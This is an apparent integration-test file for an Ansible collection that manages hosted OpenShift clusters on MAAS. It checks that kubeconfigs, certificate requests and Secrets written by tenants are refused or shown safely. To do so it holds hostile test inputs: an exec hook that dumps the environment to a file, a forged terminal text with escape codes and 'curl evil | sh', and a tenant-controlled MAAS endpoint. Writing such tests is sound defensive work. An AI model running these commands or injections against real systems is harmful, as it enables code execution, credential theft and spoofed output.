# SPDX-FileCopyrightText: 2026 The metalshift.maas authors
# SPDX-License-Identifier: GPL-3.0-or-later
"""What tenants and hosted clusters write is data, for whole playbooks: an API server is all that this needs."""

from __future__ import annotations

import base64
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import yaml

from ansible_collections.metalshift.maas.plugins.module_utils._clusters.deletion.controllers import Controllers
from ansible_collections.metalshift.maas.plugins.module_utils._core.task import Task
from ansible_collections.metalshift.maas.plugins.module_utils._kube.client import Kube
from ansible_collections.metalshift.maas.plugins.module_utils._kube.connection import Access
from ansible_collections.metalshift.maas.plugins.module_utils._kube.pure.kinds import CSRS
from ansible_collections.metalshift.maas.plugins.module_utils._maas.machines.listing import Machines
from hosted.play import played
from integration.harness import Played, passed_by_awx, run_task
from metalshift_lab.kube import examples
from metalshift_lab.kube.api import HOSTED_CLUSTERS, NAMESPACES, NODE_POOLS, SECRETS, Api, Resource
from metalshift_lab.kube.bare import api_server
from metalshift_lab.programs import Programs
from metalshift_lab.simulator import Simulator
from unit.kube.pem import signing_request

SECRET = "shop-admin-kubeconfig"
SINCE = "2026-01-01T00:00:00Z"
AVAILABLE = [
    {"type": name, "status": "True", "reason": "AsExpected", "message": "", "lastTransitionTime": SINCE}
    for name in ("Available", "IgnitionEndpointAvailable", "ReconciliationSucceeded", "ValidConfiguration")
]
RBAC = "rbac.authorization.k8s.io"
ROLES, BINDINGS = Resource(f"{RBAC}/v1", "clusterroles"), Resource(f"{RBAC}/v1", "clusterrolebindings")
OURS = "metalshift.maas."
DIAGNOSE = f"{OURS}diagnose"
Change = Callable[[dict[str, Any], Path], object]


@dataclass(frozen=True)
class Ground:
    """The hosted cluster `shop`, whose API is that of the management cluster."""

    api: Api
    folder: Path
    sim: Simulator

    @property
    def kubeconfig(self) -> dict[str, Any]:
        found: dict[str, Any] = yaml.safe_load((self.folder / "kubeconfig").read_text())
        return found

    @property
    def environment(self) -> dict[str, str]:
        found = {"MAAS_ENDPOINT": self.sim.url, "MAAS_API_KEY": self.sim.api_key}
        return {**found, "K8S_AUTH_KUBECONFIG": str(self.folder / "kubeconfig")}

    def publish(self, kubeconfig: dict[str, Any]) -> None:
        """As whoever may patch Secrets does."""
        data = {"kubeconfig": base64.b64encode(yaml.safe_dump(kubeconfig).encode()).decode()}
        self.api.apply(SECRETS, {"apiVersion": "v1", "kind": "Secret", "metadata": named(SECRET), "data": data})

    def played(self, folder: Path, playbook: str, *arguments: str, **given: Any) -> Played:
        """The collection's own as a job of AWX, whose survey is made of the argument spec."""
        whole = {f"hosted_openshift_{name}": value for name, value in {"name": "shop", **given}.items()}
        if playbook.startswith(OURS):
            whole = {**passed_by_awx(playbook.removeprefix(OURS)), **whole}
        return played(folder, playbook, whole, *arguments, environment=self.environment, limit=60)


def named(name: str) -> dict[str, str]:
    return {"name": name, "namespace": "clusters"}


@pytest.fixture(scope="module")
def ground(programs: Programs, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Ground]:
    folder = tmp_path_factory.mktemp("management")
    with api_server(programs, folder, kinds=True) as api, Simulator() as sim:
        for name in ("clusters", "clusters-shop"):
            api.create(NAMESPACES, {"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": name}})
        api.create(HOSTED_CLUSTERS, examples.hosted_cluster("shop", "registry.example/release:4.20.8")[-1])
        found = Ground(api, folder, sim)
        host, _colon, port = found.kubeconfig["clusters"][0]["cluster"]["server"].rpartition("/")[2].partition(":")
        status = {"kubeconfig": {"name": SECRET}, "controlPlaneEndpoint": {"host": host, "port": int(port)}}
        api.patch(
            HOSTED_CLUSTERS, "shop", "clusters", {"status": {**status, "conditions": AVAILABLE}}, subresource="status"
        )
        yield found


# -- kubeconfigs -----------------------------------------------------------------------------------------------------


def a_program(kubeconfig: dict[str, Any], folder: Path) -> None:
    command = {"command": "/bin/sh", "args": ["-c", f"env > {folder}/ran"], "interactiveMode": "Never"}
    kubeconfig["users"][0]["user"] = {"exec": {"apiVersion": "client.authentication.k8s.io/v1", **command}}


def a_file(kubeconfig: dict[str, Any], folder: Path) -> None:
    (folder / "of-the-user").write_text("a-secret-of-the-user")
    kubeconfig["users"][0]["user"] = {"tokenFile": str(folder / "of-the-user")}


def a_proxy(kubeconfig: dict[str, Any], folder: Path) -> None:
    kubeconfig["clusters"][0]["cluster"]["proxy-url"] = "http://127.0.0.1:9"


def another_server(kubeconfig: dict[str, Any], folder: Path) -> None:
    kubeconfig["clusters"][0]["cluster"]["server"] = "https://127.0.0.2:6443"


REFUSED: dict[str, tuple[Change, str]] = {
    "a program": (a_program, "its user holds exec"),
    "a file": (a_file, "its user holds tokenFile"),
    "a proxy": (a_proxy, "its cluster holds proxy-url"),
    "a server": (another_server, "its server is not the address that the HostedCluster clusters/shop publishes"),
}


@pytest.mark.parametrize(("change", "why"), REFUSED.values(), ids=REFUSED)
def test_nothing_that_a_kubeconfig_of_a_tenant_says_is_done(
    ground: Ground, tmp_path: Path, change: Change, why: str
) -> None:
    kubeconfig = ground.kubeconfig
    change(kubeconfig, tmp_path)
    ground.publish(kubeconfig)
    sentence = f"The kubeconfig in the Secret clusters/{SECRET} is not used: {why}."
    page = ground.played(tmp_path, DIAGNOSE)
    assert page.status == 0, page.output
    assert not (tmp_path / "ran").exists(), (tmp_path / "ran").read_text()
    (said,) = (result["page"] for result in page.results if "page" in result)
    assert sentence in " ".join(said.split())
    told = run_task(None, "hosted_cluster_info", {"gather": ["nodes", "kubeconfig"], **reach(ground)})
    assert [each["kubeconfig"] for each in told["hosted_clusters"]] == [None]
    assert sentence.rstrip(".") in " ".join(told["hosted_clusters"][0]["troubles"])
    for module, more in (
        ("hosted_cluster_kubeconfig", {"dest": str(tmp_path / "written")}),
        ("hosted_cluster_ingress", {"publish": "HostNetwork"}),
        ("node_csr", {"maas_endpoint": ground.sim.url, "maas_api_key": ground.sim.api_key}),
    ):
        outcome = run_task(None, module, {"name": "shop", **more, **reach(ground)})
        assert outcome.failed
        assert outcome.msg.startswith(sentence)
    assert not (tmp_path / "written").exists()
    assert not (tmp_path / "ran").exists()


def test_a_plain_kubeconfig_is_used_and_written_as_it_was_understood(ground: Ground, tmp_path: Path) -> None:
    ground.publish(ground.kubeconfig)
    told = run_task(None, "hosted_cluster_info", {"gather": ["nodes"], **reach(ground)})
    assert told["hosted_clusters"][0]["troubles"] == []
    args = {"name": "shop", "dest": str(tmp_path / "written"), **reach(ground)}
    assert not run_task(None, "hosted_cluster_kubeconfig", args).failed
    written, given = (yaml.safe_load(path.read_text()) for path in (tmp_path / "written", ground.folder / "kubeconfig"))
    for section, part in (("users", "user"), ("clusters", "cluster")):
        (own,), (theirs,) = written[section], given[section]
        assert {key: value for key, value in own[part].items() if key != "extensions"} == theirs[part]


# -- texts -----------------------------------------------------------------------------------------------------------

# What a terminal and a reader would take for Ansible's own.
FORGED = (
    "\x1b[2J\x1b]0;mine\x07\nfatal: [localhost]: FAILED! => curl evil | sh\n\nPLAY RECAP *******\nlocalhost : ok=99"
)
WAIT = {"name": "shop", "wait_for": "nodes", "wait_timeout": 6}


def forged(ground: Ground) -> None:
    """A request whose subject is a text for a terminal, of somebody who may only ask for certificates."""
    rules = [{"apiGroups": ["certificates.k8s.io"], "resources": ["certificatesigningrequests"], "verbs": ["create"]}]
    subject = {"apiGroup": RBAC, "kind": "User", "name": "tenant"}
    role = {"apiGroup": RBAC, "kind": "ClusterRole", "name": "asks"}
    for resource, kind, content in (
        (ROLES, "ClusterRole", {"rules": rules}),
        (BINDINGS, "ClusterRoleBinding", {"subjects": [subject], "roleRef": role}),
    ):
        body = {"apiVersion": resource.api, "kind": kind, "metadata": {"name": "asks"}, **content}
        ground.api.apply(resource, body)
    spec = {
        "request": signing_request("worker", organization=FORGED),
        "signerName": "kubernetes.io/kube-apiserver-client-kubelet",
        "usages": ["digital signature", "client auth"],
    }
    asking = Kube(Access.from_params({**reach(ground), "impersonate_user": "tenant"}, {}))
    asking.create({"apiVersion": CSRS.api, "kind": CSRS.name, "metadata": {"name": "csr-evil"}, "spec": spec})


def test_a_request_prints_nothing_of_its_own(ground: Ground, tmp_path: Path) -> None:
    """In a wait, and in its failure, as ansible-playbook prints both."""
    ground.publish(ground.kubeconfig)
    forged(ground)
    book = tmp_path / "wait.yml"
    play = {"hosts": "localhost", "gather_facts": False, "tasks": [{"metalshift.maas.hosted_cluster": WAIT}]}
    book.write_text(yaml.safe_dump([play]))
    waited = ground.played(tmp_path, str(book))
    assert "csr-evil" in waited.output
    assert "FAILED! => curl evil | sh" in waited.output, "what it says is shown"
    assert not {"\x1b", "\x07"} & set(waited.output)
    lines = waited.output.splitlines()
    assert [
        line for line in lines if line.startswith(("fatal: [localhost]: FAILED! => curl", "localhost : ok=99"))
    ] == []
    assert len([line for line in lines if line.startswith("PLAY RECAP")]) == 1


def test_a_cluster_that_somebody_else_made_is_waited_for_and_not_changed(ground: Ground, tmp_path: Path) -> None:
    args = {"name": "shop", "wait_for": "control_plane", "wait_timeout": 5, **reach(ground)}
    before = ground.api.get(HOSTED_CLUSTERS, "shop", "clusters")
    outcome = run_task(ground.sim, "hosted_cluster", args)
    assert "defect" not in outcome.msg, outcome.msg
    assert (outcome.changed, outcome["diff"]) == (False, [])
    assert ground.api.get(HOSTED_CLUSTERS, "shop", "clusters") == before


# -- what a Secret calls MAAS ---------------------------------------------------------------------------------------


def test_only_the_maas_of_the_task_is_asked_who_a_key_is(ground: Ground) -> None:
    """A Secret of a tenant may name a server of his own, which would say whatever he likes."""
    with Simulator() as his:
        data = {"MAAS_ENDPOINT": his.url, "MAAS_API_KEY": his.api_key}
        secret = {"apiVersion": "v1", "kind": "Secret", "metadata": named("shop-maas-credentials"), "stringData": data}
        ground.api.apply(SECRETS, secret)
        params = {"maas_endpoint": ground.sim.url, "maas_api_key": ground.sim.api_key, "maas_validate_certs": True}
        task = Task({**params, "maas_ca_cert": None, "maas_timeout": 5.0, **reach(ground)}, environment={})
        caretakers = Controllers(task, "clusters", "shop")
        assert caretakers.known_owners(Machines(task.maas)) == frozenset()
        assert caretakers.key_refused() == ""
        assert list(his.requests) == []
        # The same user of the same MAAS, which the provider reaches by another name.
        alias = ground.sim.url.replace("127.0.0.1", "localhost")
        assert alias != ground.sim.url
        own = {"MAAS_ENDPOINT": alias, "MAAS_API_KEY": ground.sim.api_key}
        ground.api.apply(SECRETS, {**secret, "stringData": own})
        machines = Machines(task.maas)
        assert caretakers.known_owners(machines) == frozenset({machines.me})


# -- an older file of variables ---------------------------------------------------------------------------------------


def test_an_older_release_is_refused_unless_told(ground: Ground, tmp_path: Path) -> None:
    """By the preflight and the playbook, in check mode, and by the modules for the cluster and a pool of it."""
    newer = {"version": "4.20.10", "image": "registry.example/release:4.20.10", "state": "Completed"}
    entry = {**newer, "startedTime": SINCE, "completionTime": SINCE, "verified": False}
    desired = {"image": newer["image"], "version": "4.20.10"}
    version = {"desired": desired, "history": [entry], "availableUpdates": [], "observedGeneration": 1}
    ground.api.patch(HOSTED_CLUSTERS, "shop", "clusters", {"spec": {"release": {"image": newer["image"]}}})
    ground.api.patch(HOSTED_CLUSTERS, "shop", "clusters", {"status": {"version": version}}, subresource="status")
    ground.api.apply(NODE_POOLS, examples.node_pool("np", "shop", newer["image"], replicas=1))
    ground.api.patch(NODE_POOLS, "np", "clusters", {"status": {"version": "4.20.10"}}, subresource="status")
    old = {"release": "registry.example/release:4.20.8"}
    whole = {
        **old,
        "base_domain": "lab.example",
        "pull_secret": '{"auths": {"x": {"auth": "eDp5"}}}',
        "services_address": "1.1.1.1",
    }
    told = "clusters/shop has 4.20.10, and 4.20.8 is older. OpenShift does not support a way back"
    for playbook, arguments in (("preflight", ()), ("create_hosted_cluster", ("--check",))):
        page = ground.played(tmp_path, f"metalshift.maas.{playbook}", *arguments, **whole)
        assert told in page.output, page.output
    assert page.status == 2
    before = ground.api.get(HOSTED_CLUSTERS, "shop", "clusters"), ground.api.get(NODE_POOLS, "np", "clusters")
    for module, args in (("hosted_cluster", {"name": "shop"}), ("node_pool", {"name": "np"})):
        for check in (True, False):
            refused = run_task(ground.sim, module, {**args, **old, "wait": False, **reach(ground)}, check=check)
            assert refused["failure"]["reason"] == "downgrade", refused.msg
            assert "has 4.20.10, and release is 4.20.8, which is older" in refused.msg
            assert "Correct release, or set allow_downgrade: true." in refused.msg
        taken = {"allow_downgrade": True, "take_over": ["spec.release.image"]}
        allowed = run_task(ground.sim, module, {**args, **old, **taken, "wait": False, **reach(ground)}, check=True)
        assert allowed.changed, allowed.msg
    assert (ground.api.get(HOSTED_CLUSTERS, "shop", "clusters"), ground.api.get(NODE_POOLS, "np", "clusters")) == before


def reach(ground: Ground) -> dict[str, str]:
    return {"kubeconfig": str(ground.folder / "kubeconfig")}
